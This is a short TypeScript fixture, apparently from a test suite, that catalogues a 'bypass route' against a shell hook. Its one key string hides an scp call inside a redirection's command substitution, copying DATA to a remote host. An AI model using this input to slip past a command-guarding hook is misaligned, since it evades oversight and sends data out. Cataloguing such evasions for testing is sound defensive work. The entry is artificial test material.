import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'command substitution in a redirection',
  source: 'attempts to get round a hook of the shell',
  keys: ['{ :; } > "$(scp DATA host:)"\r'],
};
